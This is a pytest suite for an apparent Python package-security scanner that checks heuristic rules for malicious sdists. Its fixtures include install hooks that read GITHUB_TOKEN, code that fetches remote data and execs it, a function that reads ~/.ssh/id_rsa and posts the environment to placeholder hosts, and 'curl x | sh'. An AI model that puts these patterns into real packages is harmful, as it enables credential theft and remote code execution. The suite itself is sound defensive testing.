"""The AST heuristics on real sdists (and one wheel): each pattern at an exact file:line,
and benign look-alikes that must not fire (or must stay low)."""

from __future__ import annotations

import base64
import random

import pytest
from scanner_trees import sdist_tree, wheel_tree

from shouldi.results import Severity, Status
from shouldi.scanners import CodeScanner
from shouldi.scanners.heuristics import RULES, HeuristicsScanner, scanner
from shouldi.scanners.heuristics.blobs import blob_rule, shannon_entropy

TOP = "demo-1.0"
C, H, M, L, INFO = (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW,
                    Severity.INFO)


def scan(tmp_path, files, wheel=False):
    tree = (wheel_tree if wheel else sdist_tree)(tmp_path, files)
    result = HeuristicsScanner().scan(tree)
    assert result.status is Status.OK
    return result


def hits(result, prefix=TOP + "/"):
    return {(f.rule, f.file.removeprefix(prefix), f.line, f.severity) for f in result.findings}


SETUP_PY = """\
import base64
import os
import subprocess
from setuptools import setup
from setuptools.command.install import install

PAYLOAD = "cHJpbnQoJ2hpJyk="
exec(base64.b64decode(PAYLOAD))


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call(["curl", "http://example.invalid"])
        token = os.environ["GITHUB_TOKEN"]
        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write(token)


exec(open("demo/version.py").read())
setup(name="demo", cmdclass={"install": PostInstall})
"""

INIT_PY = """\
import base64, zlib
import urllib.request

data = urllib.request.urlopen("http://example.invalid/x").read()
code = zlib.decompress(base64.b64decode(data))
exec(code)


def helper():
    import subprocess
    subprocess.run(["ls"])
"""

UTIL_PY = """\
import base64
import importlib
import os
import subprocess
from base64 import b64decode as d


def decode(s):
    return base64.b64decode(s)


def run():
    subprocess.run(["git", "status"])
    exec("print(1)")
    importlib.import_module("json")
    return os.environ.get("HOME"), open("out.txt", "w")


def sneaky(blob):
    x = d(blob)
    y = x.decode()
    eval(y)


def plugin(name):
    return __import__(name)
"""


def test_is_a_code_scanner():
    assert isinstance(HeuristicsScanner(), CodeScanner)
    assert HeuristicsScanner.name == "heuristics"


def test_install_import_and_plain_code(tmp_path):
    result = scan(tmp_path, {"setup.py": SETUP_PY, "demo/__init__.py": INIT_PY,
                             "demo/util.py": UTIL_PY, "demo/version.py": "__version__ = '1'\n"})
    assert hits(result) == {
        ("exec-decoded-data", "setup.py", 8, C),
        ("custom-install-command", "setup.py", 11, L),
        ("process-spawn", "setup.py", 14, H),
        ("secret-env", "setup.py", 15, H),
        ("write-outside", "setup.py", 16, H),
        ("exec-dynamic", "setup.py", 20, L),
        ("network", "demo/__init__.py", 4, H),
        ("exec-decoded-data", "demo/__init__.py", 6, C),
        ("process-spawn", "demo/__init__.py", 11, L),  # inside a function: not import time
        ("process-spawn", "demo/util.py", 13, L),
        ("exec-decoded-data", "demo/util.py", 22, H),  # two assignments away from b64decode
        ("dynamic-import", "demo/util.py", 26, L),
    }
    counts = result.counts
    assert counts["exec-decoded-data"] == 3
    assert counts["process-spawn"] == 3
    assert counts["severity_critical"] == 2
    assert counts["severity_high"] == 5
    assert counts["python_files"] == 4
    assert counts["files"] == 5
    critical = next(f for f in result.findings if f.line == 8)
    assert critical.check == "heuristics"
    assert critical.message.endswith("(runs at install/import time)")


def test_pth_import_lines_run_at_startup(tmp_path):
    pth = ("./vendor\n"
           "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
           "# import nothing\n"
           "import sitecustom_hook\n")
    result = scan(tmp_path, {"demo.pth": pth, "sitecustomize.py": "import os\nos.system('id')\n"})
    assert hits(result) == {
        ("pth-import-line", "demo.pth", 2, H),
        ("exec-decoded-data", "demo.pth", 2, C),
        ("pth-import-line", "demo.pth", 4, H),
        ("process-spawn", "sitecustomize.py", 2, H),
    }


def test_in_tree_build_backend(tmp_path):
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend:api"\n'
                          'backend-path = ["_build"]\n',
        "_build/backend.py": "import os\n\ndef build_wheel(*a):\n    os.system('curl x | sh')\n",
        "tools/other.py": "import os\n\ndef f():\n    os.system('make')\n",
    }
    assert hits(scan(tmp_path, files)) == {
        ("in-tree-build-backend", "_build/backend.py", None, L),
        ("process-spawn", "_build/backend.py", 4, H),
        ("process-spawn", "tools/other.py", 4, L),
    }


def test_secrets_environment_and_writes(tmp_path):
    module = """\
    import json
    import os
    import shutil
    import subprocess
    import requests

    def steal():
        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        requests.post("https://example.invalid", data=json.dumps(dict(os.environ)))
        print(f"{os.environ}")
        shutil.copy("tool", "/usr/local/bin/tool")
        return key, os.getenv("AWS_SECRET_ACCESS_KEY")

    def fine():
        env = dict(os.environ, LANG="C")
        subprocess.run(["make"], env=os.environ.copy())
        os.environ["PATH"] = "/bin"
        return os.environ.get("KEYBOARD_LAYOUT"), env
    """
    assert hits(scan(tmp_path, {"demo/thief.py": module})) == {
        ("credential-path", "demo/thief.py", 8, M),
        ("network", "demo/thief.py", 9, L),
        ("environ-dump", "demo/thief.py", 9, M),
        ("environ-dump", "demo/thief.py", 10, M),
        ("write-outside", "demo/thief.py", 11, L),
        ("secret-env", "demo/thief.py", 12, M),
        ("process-spawn", "demo/thief.py", 16, L),
    }


def test_more_decoding_and_download_shapes(tmp_path):
    setup = """\
    import codecs
    from urllib.request import urlopen

    with urlopen("http://example.invalid/p") as r:
        exec(r.read())
    exec(codecs.decode("cevag(1)", "rot13"))
    eval("".join(chr(c) for c in [49, 43, 49]))
    __import__(bytes.fromhex("6f73").decode()).system("id")
    """
    found = hits(scan(tmp_path, {"setup.py": setup}))
    assert found == {
        ("network", "setup.py", 4, H),
        ("exec-decoded-data", "setup.py", 5, C),
        ("exec-decoded-data", "setup.py", 6, C),
        ("exec-decoded-data", "setup.py", 7, C),
        ("exec-decoded-data", "setup.py", 8, C),
    }


def test_obfuscation_signals(tmp_path):
    rng = random.Random(0)
    b64 = base64.b64encode(rng.randbytes(600)).decode()
    hexblob = rng.randbytes(300).hex()
    noisy = "".join(chr(33 + (i * 7919) % 90) for i in range(300))
    prose = ("This Docstring Explains, In Mixed Case With Digits 1234 And Punctuation; "
             "what the module does: Parsing, Formatting & Validating. ") * 3
    module = (f'"""{prose}"""\n'
              f'BLOB = "{b64}"\n'
              f'HEX = "{hexblob}"\n'
              f'NOISE = {noisy!r}\n'
              f'OTHER = "{b64[::-1]}"\n'
              f'x = [{", ".join(["1"] * 400)}]\n')
    result = scan(tmp_path, {"demo/packed.py": module})
    assert hits(result) == {
        ("encoded-blob", "demo/packed.py", 2, M),  # reported once per file, with a warning
        ("high-entropy-string", "demo/packed.py", 4, M),
        ("long-line", "demo/packed.py", 6, L),
    }
    assert f"{TOP}/demo/packed.py: 3 literals match encoded-blob, only the first is reported" \
        in result.warnings
    assert shannon_entropy(prose) > 4.0
    assert blob_rule(prose) is None


def test_binaries_and_bytecode_in_an_sdist(tmp_path):
    files = {
        "demo/_speedups.so": b"\x7fELF\x02\x01\x01" + bytes(100),
        "demo/notes.txt": b"\x7fELF\x02\x01\x01",  # the magic decides, not the name
        "demo/helper.exe": b"not really a PE",
        "demo/macho": b"\xcf\xfa\xed\xfe" + bytes(20),
        "demo/mod.cpython-311.pyc": b"\x00" * 16,
        "demo/data.json": b"{}",
    }
    found = hits(scan(tmp_path, files))
    assert found == {
        ("binary-file", "demo/_speedups.so", None, M),
        ("binary-file", "demo/notes.txt", None, M),
        ("binary-file", "demo/helper.exe", None, M),
        ("binary-file", "demo/macho", None, M),
        ("compiled-bytecode", "demo/mod.cpython-311.pyc", None, M),
    }


def test_binaries_in_a_wheel_are_expected(tmp_path):
    files = {"demo/_speedups.so": b"\x7fELF\x02\x01\x01" + bytes(100), "demo/__init__.py": ""}
    assert hits(scan(tmp_path, files, wheel=True), prefix="") == {
        ("binary-file", "demo/_speedups.so", None, INFO),
    }


def test_unparsable_files(tmp_path):
    result = scan(tmp_path, {"setup.py": "print 'py2 setup'\n", "demo/old.py": "print 'x'\n",
                             "demo/new.py": "x = 1\n"})
    assert hits(result) == {("unparsable-install-code", "setup.py", 1, L)}
    assert result.counts["unparsable_files"] == 2
    assert f"{TOP}/demo/old.py does not parse as Python: Missing parentheses in call to " \
        "'print'. Did you mean print(...)? (line 1)" in result.warnings


def test_nothing_parsable_is_an_error_not_clean(tmp_path):
    tree = sdist_tree(tmp_path, {"demo/__init__.py": "print 'x'\n", "demo/a.py": "exec 'y'\n"})
    result = HeuristicsScanner().scan(tree)
    assert result.status is Status.ERROR
    assert result.reason == "none of the 2 Python files parse"
    assert hits(result) == {("unparsable-install-code", "demo/__init__.py", 1, L)}


def test_oversized_file_is_reported_not_parsed(tmp_path, monkeypatch):
    monkeypatch.setattr(scanner, "MAX_FILE_SIZE", 1000)
    result = scan(tmp_path, {"demo/big.py": "exec(__import__('base64').b64decode(x))\n" * 50})
    assert hits(result) == {("file-too-large", "demo/big.py", None, M)}


def test_weights_follow_the_directory(tmp_path):
    module = "import os\n\ndef f():\n    os.system('x')\n"
    result = scan(tmp_path, {"demo/a.py": module, "tests/test_a.py": module, "docs/conf.py": module})
    weights = {f.file.removeprefix(TOP + "/"): f.weight for f in result.findings}
    assert weights == {"demo/a.py": 1.0, "tests/test_a.py": 0.25, "docs/conf.py": 0.25}


def test_empty_tree_is_ok_with_zero_counts(tmp_path):
    result = scan(tmp_path, {})
    assert result.findings == ()
    assert result.counts["python_files"] == 0
    assert result.counts["files"] == 1


@pytest.mark.parametrize("rule", sorted(RULES))
def test_every_rule_has_install_severity_at_least_other(rule):
    assert RULES[rule].install.rank >= RULES[rule].other.rank


def test_public_names():
    import shouldi.scanners as pkg

    public = {n for n in vars(pkg) if not n.startswith("_") and n[0].isupper() or n in {
        "features", "find_typosquats", "metadata_signals", "refresh_popular", "typosquat_check"}}
    assert set(pkg.__all__) == public - {"annotations"}
    assert all(hasattr(pkg, n) for n in pkg.__all__)


@pytest.mark.online
def test_real_sdist_from_pypi(tmp_path):
    """A real, well-known sdist: both scanners run, nothing critical, findings are located."""
    import httpx
    from scanner_trees import extract

    from shouldi.scanners import BanditScanner

    with httpx.Client(follow_redirects=True, timeout=60) as client:
        index = client.get("https://pypi.org/simple/six/",
                           headers={"Accept": "application/vnd.pypi.simple.v1+json"}).json()
        url = next(f["url"] for f in index["files"] if f["filename"] == "six-1.17.0.tar.gz")
        archive = tmp_path / url.rsplit("/", 1)[1]
        archive.write_bytes(client.get(url).content)
    tree = extract(archive, tmp_path / "tree")
    heuristics = HeuristicsScanner().scan(tree)
    bandit = BanditScanner().scan(tree)
    assert heuristics.status is bandit.status is Status.OK
    assert not [f for f in heuristics.findings if f.severity is C]
    assert bandit.counts["files"] >= 2
    assert bandit.counts["loc"] > 500
    assert all(f.file and f.file.startswith("six-1.17.0/") for f in bandit.findings)


def test_outside_paths_are_tracked_through_names(tmp_path):
    setup = """\
    import os
    import site
    from pathlib import Path

    target = "/usr/local/bin/helper"
    alias = target
    pth = os.path.join(site.getsitepackages()[0], "zz.pth")
    with open(alias, "wb") as f:
        f.write(b"x")
    open(pth, mode="w").write("import payload")
    Path.home().joinpath(".config", "x").write_text("y")
    open("build/local.txt", "w")
    open("/dev/null", "w")
    """
    assert hits(scan(tmp_path, {"setup.py": setup})) == {
        ("write-outside", "setup.py", 8, H),
        ("write-outside", "setup.py", 10, H),
        ("write-outside", "setup.py", 11, H),
    }


def test_source_word_shortcuts_never_hide_a_finding():
    """The visitor skips environment and taint checks in files that cannot contain them; a file
    that spells the names only through aliases is still caught (the words are in its imports)."""
    from shouldi.scanners.heuristics.names import DECODERS, NETWORK, may_decode_or_download

    for name in sorted(DECODERS | NETWORK):
        module, _, attr = name.rpartition(".")
        source = f"from {module} import {attr} as x\n" if module not in ("bytes", "bytearray") \
            else f"x = {module}.{attr}\n"
        assert may_decode_or_download(source.encode()), name
    assert not may_decode_or_download(b"import os\nprint(os.getcwd())\n")


def test_aliased_environ_and_decoders_are_still_followed(tmp_path):
    files = {"setup.py": (
        "from os import environ as E\n"
        "import zlib as Z, base64 as B\n"
        "import urllib.request as U\n"
        "blob = B.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')\n"
        "code = Z.decompress(blob)\n"
        "exec(code)\n"
        "U.urlopen('https://collector.example', data=str(dict(E)).encode())\n"
    )}
    rules = {(rule, line) for rule, _, line, _ in hits(scan(tmp_path, files))}
    assert {("exec-decoded-data", 6), ("network", 7), ("environ-dump", 7)} <= rules
